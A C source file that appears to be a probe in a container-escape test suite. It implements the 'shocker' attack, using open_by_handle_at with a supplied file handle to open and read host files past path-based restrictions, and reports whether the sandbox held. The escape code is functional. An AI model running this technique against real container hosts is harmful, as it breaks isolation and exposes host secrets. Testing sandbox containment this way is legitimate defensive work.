/* open_by_handle TYPE HEXHANDLE MARKER: "shocker": open a host file by its
 * file handle (computed on the host), bypassing every path-based restriction. */
#include "common.h"

int main(int argc, char **argv)
{
	need(argc, 3, "open_by_handle TYPE HEXHANDLE MARKER");
	size_t len = strlen(argv[2]) / 2;
	struct file_handle *fh = malloc(sizeof *fh + len);
	fh->handle_bytes = len;
	fh->handle_type = atoi(argv[1]);
	for (size_t i = 0; i < len; i++)
		sscanf(argv[2] + 2 * i, "%2hhx", &fh->f_handle[i]);
	const char *mounts[] = { "/", "/etc", "/usr", "/proc/self/cwd" };
	char what[400] = "";
	for (size_t i = 0; i < sizeof mounts / sizeof *mounts; i++) {
		int mfd = open(mounts[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (mfd < 0)
			continue;
		int fd = open_by_handle_at(mfd, fh, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			snprintf(what + strlen(what), sizeof what - strlen(what), "%s: %s; ", mounts[i], en(errno));
			close(mfd);
			continue;
		}
		char buf[4096];
		ssize_t n = read(fd, buf, sizeof buf - 1);
		if (n > 0) {
			buf[n] = 0;
			if (strstr(buf, argv[3]))
				escaped("open_by_handle_at via %s read the host secret", mounts[i]);
		}
		escaped("open_by_handle_at via %s opened the host file", mounts[i]);
	}
	contained("open_by_handle_at: %s", what);
}
